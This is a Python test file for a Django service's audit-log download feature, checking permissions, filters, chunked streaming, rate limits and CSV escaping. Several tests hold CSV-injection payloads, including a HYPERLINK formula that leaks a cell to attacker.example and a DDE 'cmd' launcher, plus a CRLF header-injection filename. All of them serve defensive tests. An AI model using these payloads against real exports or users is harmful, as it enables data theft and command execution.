"""Organization → Audit log → Download CSV / JSON Lines: the API's events as a file, for
owners and admins, as the page filters them, streamed by position in bounded chunks."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.apikeys.keyformat import KeyKind
from apps.audit.models import AuditEvent
from apps.audit.services import Action, record_event
from apps.projects.services import create_project
from core import export
from tests.conftest import access_token_for, bearer
from tests.factories import make_key
from tests.pages import html, logged_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")'


def export_url(organization, file_format: str, query: str = "") -> str:
    return f"/orgs/{organization.id}/audit-log/export.{file_format}{query}"


def event(organization, action, minutes_ago, label, **kwargs):
    created = record_event(
        action=action,
        organization_id=organization.id,
        target_type="project",
        target_label=label,
        **kwargs,
    )
    AuditEvent.objects.filter(pk=created.pk).update(
        created_at=timezone.now() - timedelta(minutes=minutes_ago)
    )
    return created


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict[str, str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM, for Excel to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def json_rows(response) -> list[dict]:
    return [json.loads(line) for line in body(response).decode().splitlines()]


def exports_recorded(organization) -> int:
    return AuditEvent.objects.filter(
        organization=organization, action=Action.AUDIT_LOG_EXPORTED
    ).count()


@pytest.mark.parametrize("role", ["owner", "admin"])
def test_managers_download_the_log_as_csv_newest_first(request, role, organization, owner):
    event(organization, Action.KEY_MINTED, 30, "older-event", actor_user=owner)
    event(organization, Action.KEY_REVOKED, 5, "newer-event", actor_user=owner)

    response = logged_in(request.getfixturevalue(role)).get(export_url(organization, "csv"))

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    disposition = response["Content-Disposition"]
    assert re.fullmatch(
        rf'attachment; filename="sigsentry-audit-log-{organization.id}-\d{{8}}T\d{{6}}Z\.csv"',
        disposition,
    ), disposition
    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = csv_rows(response)
    labels = [row["target.label"] for row in rows]
    assert labels[1:] == ["newer-event", "older-event"]
    assert rows[0]["action"] == Action.AUDIT_LOG_EXPORTED  # the download's own event first
    assert list(rows[1]) == list(AuditEventColumns)
    assert rows[1]["actor.email"] == owner.email and rows[1]["actor.type"] == "user"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", rows[1]["createdAt"])


AuditEventColumns = (
    "id",
    "action",
    "actor.type",
    "actor.id",
    "actor.email",
    "actor.prefix",
    "target.type",
    "target.id",
    "target.label",
    "projectId",
    "ip",
    "createdAt",
    "details",
)


def test_json_lines_hold_the_apis_events_exactly(owner, organization, project, api_client):
    make_key(KeyKind.SECRET, project=project, actor=owner, name="Ünïcode key")
    make_key(KeyKind.ORGANIZATION, organization=organization, actor=owner)

    response = logged_in(owner).get(export_url(organization, "jsonl"))
    downloaded = json_rows(response)
    listed = api_client.get(
        f"/v1/organizations/{organization.id}/audit-events", **bearer(access_token_for(owner))
    ).json()["results"]

    assert response["Content-Type"] == "application/jsonl"
    assert response["Content-Disposition"].endswith('.jsonl"')
    assert downloaded == listed
    assert {"key.minted", Action.AUDIT_LOG_EXPORTED} <= {row["action"] for row in downloaded}
    assert "Ünïcode key" in body(logged_in(owner).get(export_url(organization, "jsonl"))).decode()


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_the_pages_action_filter_is_honoured(owner, organization, file_format):
    event(organization, Action.KEY_MINTED, 3, "minted-one")
    event(organization, Action.MEMBER_ADDED, 2, "added-one")
    client = logged_in(owner)

    response = client.get(export_url(organization, file_format, "?action=member.added"))

    text = body(response).decode()
    assert "added-one" in text and "minted-one" not in text
    assert "-member.added-" in response["Content-Disposition"]
    page = html(client.get(f"/orgs/{organization.id}/audit-log/?action=member.added"))
    assert 'href="export.csv?action=member.added">Download CSV' in page
    assert 'href="export.jsonl?action=member.added">Download JSON Lines' in page


def test_an_unknown_action_filter_downloads_everything_as_the_page_shows(owner, organization):
    event(organization, Action.KEY_MINTED, 3, "minted-one")

    response = logged_in(owner).get(export_url(organization, "csv", "?action=<script>"))

    assert "minted-one" in body(response).decode()
    assert "script" not in response["Content-Disposition"]


def test_before_continues_after_an_event_of_this_log_only(owner, organization, outsider):
    old = event(organization, Action.KEY_MINTED, 30, "old-event")
    middle = event(organization, Action.KEY_MINTED, 20, "middle-event")
    event(organization, Action.KEY_MINTED, 10, "new-event")
    foreign = event(outsider.memberships.get().organization, Action.KEY_MINTED, 1, "foreign")
    client = logged_in(owner)

    after_middle = body(client.get(export_url(organization, "csv", f"?before={middle.id}")))
    ignored = body(client.get(export_url(organization, "csv", f"?before={foreign.id}")))

    assert "old-event" in after_middle.decode() and "new-event" not in after_middle.decode()
    assert str(old.id) in after_middle.decode()
    assert "new-event" in ignored.decode() and "foreign" not in ignored.decode()


def test_a_name_that_is_a_formula_is_only_text_in_the_csv(owner, organization):
    """OWASP CSV injection: a project named `=HYPERLINK(…)` would run in the reviewer's
    sheet (a key's name is in its event's details, JSON: a cell that starts with `{`)."""
    create_project(actor=owner, organization=organization, name=FORMULA)
    for start in ("+", "-", "@", "\t", "\r"):
        event(organization, Action.PROJECT_UPDATED, 1, f"{start}cmd|' /C calc'!A0")

    rows = csv_rows(logged_in(owner).get(export_url(organization, "csv")))

    created = next(row for row in rows if row["action"] == "project.created")
    assert created["target.label"] == "'" + FORMULA
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(export.FORMULA_STARTS)]
    assert {f"'{start}cmd|' /C calc'!A0" for start in "+-@\t\r"} <= set(cells)


@pytest.mark.parametrize("role", ["member", "viewer"])
@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_members_and_viewers_get_403_and_nothing_is_recorded(
    request, role, organization, file_format
):
    event(organization, Action.KEY_MINTED, 1, "secretive")

    response = logged_in(request.getfixturevalue(role)).get(export_url(organization, file_format))

    assert response.status_code == 403 and not response.streaming
    assert "secretive" not in html(response)
    assert exports_recorded(organization) == 0


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_outsider_gets_404_and_nothing_is_recorded(outsider, organization, file_format):
    event(organization, Action.KEY_MINTED, 1, "secretive")

    response = logged_in(outsider).get(export_url(organization, file_format))

    assert response.status_code == 404
    assert "secretive" not in html(response)
    assert exports_recorded(organization) == 0


def test_a_logged_out_download_goes_to_the_login(client, organization):
    response = client.get(export_url(organization, "csv"))
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_each_download_is_an_audit_event(owner, organization):
    body(logged_in(owner).get(export_url(organization, "jsonl", "?action=key.revoked")))

    [recorded] = AuditEvent.objects.filter(action=Action.AUDIT_LOG_EXPORTED)
    assert recorded.organization_id == organization.id and recorded.actor_user_id == owner.id
    assert recorded.target_type == "organization" and recorded.target_label == organization.name
    assert recorded.details == {"format": "jsonl", "action": "key.revoked"}


def test_head_answers_as_get_without_a_file_a_record_or_a_place_in_the_limit(
    owner, member, outsider, organization, project, settings, throttle_clock
):
    """RFC 9110: a server that serves GET serves HEAD (monitors and link checkers send it;
    `tests/security/test_head_everywhere.py`); it reads, records and counts nothing."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
    client = logged_in(owner)
    urls = [export_url(organization, "csv"), f"/projects/{project.id}/api-keys/export.csv"]

    heads = [client.head(url) for url in urls for _ in range(3)]

    assert {head.status_code for head in heads} == {200}
    assert all(head["Content-Disposition"].startswith("attachment;") for head in heads)
    assert all(head["Cache-Control"] == "no-store" for head in heads)
    assert exports_recorded(organization) == 0
    assert logged_in(outsider).head(urls[0]).status_code == 404
    assert logged_in(outsider).head(urls[1]).status_code == 404
    assert logged_in(member).head(urls[0]).status_code == 403
    assert client.get(urls[0]).status_code == 200  # the hour's one download still there


def grow(organization, owner, count: int) -> None:
    AuditEvent.objects.bulk_create(
        AuditEvent(
            organization=organization,
            action=Action.KEY_MINTED,
            actor_type="user",
            actor_user=owner,
            actor_label=owner.email,
            target_type="key",
            target_label=f"key {n}",
        )
        for n in range(count)
    )


def queries_of(client, url: str) -> tuple[int, int]:
    """(queries, rows) of a whole download, its stream read to the end."""
    with CaptureQueriesContext(connection) as ctx:
        rows = len(body(client.get(url)).splitlines())
    return len(ctx.captured_queries), rows


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_a_download_costs_one_query_per_chunk_whatever_the_rows(
    owner, organization, monkeypatch, file_format
):
    client = logged_in(owner)
    url = export_url(organization, file_format)
    grow(organization, owner, 3)
    queries_of(client, url)  # warmed up
    few, _ = queries_of(client, url)
    grow(organization, owner, 60)
    many, _ = queries_of(client, url)
    assert many == few

    monkeypatch.setattr(export, "CHUNK_ROWS", 10)
    grow(organization, owner, 7)  # 70 events, and 3 downloads so far, each an event
    chunked, lines = queries_of(client, url)
    assert lines == 74 + (file_format == "csv")  # 73 + the download's own (+ the header)
    assert chunked == few + 7  # 8 chunks (7 of 10, then 4) instead of 1


def test_a_download_holds_at_most_most_rows(owner, organization, monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 5)
    monkeypatch.setattr(export, "CHUNK_ROWS", 2)
    grow(organization, owner, 12)

    rows = csv_rows(logged_in(owner).get(export_url(organization, "csv")))

    assert len(rows) == 5
    page = html(logged_in(owner).get(f"/orgs/{organization.id}/audit-log/"))
    assert "newest first, at most 5 events a file;" in page


def test_newest_first_reads_each_row_once_across_chunks_of_equal_times(organization, owner):
    moment = timezone.now()
    AuditEvent.objects.bulk_create(
        AuditEvent(
            organization=organization,
            action=Action.KEY_MINTED,
            actor_type="system",
            created_at=moment - timedelta(seconds=n // 7),
        )
        for n in range(10)
    )
    events = AuditEvent.objects.filter(organization=organization)

    read = [e.id for e in export.newest_first(events, chunk=2)]
    capped = [e.id for e in export.newest_first(events, chunk=3, most=4)]

    expected = list(events.order_by("-created_at", "-id").values_list("id", flat=True))
    assert read == expected and len(set(read)) == 10
    assert capped == expected[:4]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralizes_each_formula_start(start):
    assert export.csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cell_keeps_other_text_and_writes_none_as_empty():
    assert [export.csv_cell(v) for v in ("a=b", " =1", "'=1", None, 7)] == [
        "a=b",
        " =1",
        "'=1",
        "",
        "7",
    ]


@pytest.mark.parametrize("name", ['a".csv', "é.csv", "a;b.csv", "a b.csv", "a\r\nX-Evil: 1"])
def test_a_download_name_must_be_plain_ascii(name):
    with pytest.raises(ValueError):
        export.download(iter(()), filename=name, content_type="text/csv")


def test_the_api_lists_and_filters_the_downloads(owner, organization, api_client):
    body(logged_in(owner).get(export_url(organization, "csv")))
    event(organization, Action.KEY_MINTED, 1, "minted-one")

    response = api_client.get(
        f"/v1/organizations/{organization.id}/audit-events?action=audit_log.exported",
        **bearer(access_token_for(owner)),
    )
    schema = api_client.get("/v1/schema?format=json").json()

    assert response.status_code == 200
    [listed] = response.json()["results"]
    assert listed["action"] == "audit_log.exported"
    assert listed["target"]["type"] == "organization" and listed["actor"]["email"] == owner.email
    assert "audit_log.exported" in json.dumps(schema)


def test_the_first_chunk_is_read_before_the_answer_starts(owner, organization):
    """So a database outage there is the 503 page, not a 200 cut short."""
    event(organization, Action.KEY_MINTED, 1, "minted-one")
    client = logged_in(owner)

    with CaptureQueriesContext(connection) as ctx:
        response = client.get(export_url(organization, "csv"))
    read = [q["sql"] for q in ctx.captured_queries if "ORDER BY" in q["sql"]]

    assert any('FROM "audit_auditevent"' in sql for sql in read), read
    assert "minted-one" in body(response).decode()


def test_downloads_past_the_hours_budget_get_the_429_page(
    owner, organization, project, settings, throttle_clock
):
    """Each file holds a sync worker for up to seconds: one account may not keep them busy."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (2, 3600)}
    client = logged_in(owner)
    body(client.get(export_url(organization, "csv")))
    b"".join(client.get(f"/projects/{project.id}/api-keys/export.csv").streaming_content)

    refused = client.get(export_url(organization, "jsonl"))

    assert refused.status_code == 429 and not refused.streaming
    assert 0 < int(refused["Retry-After"]) <= 3600
    assert "Too many downloads" in html(refused) and "You downloaded 2 files" in html(refused)
    assert "Please wait about 1 hour and try again" in html(refused)  # not "60 minutes"
    assert exports_recorded(organization) == 1
    assert client.get(f"/projects/{project.id}/sdk-keys/export.csv").status_code == 429
    throttle_clock.advance(3600)
    assert client.get(export_url(organization, "csv")).status_code == 200
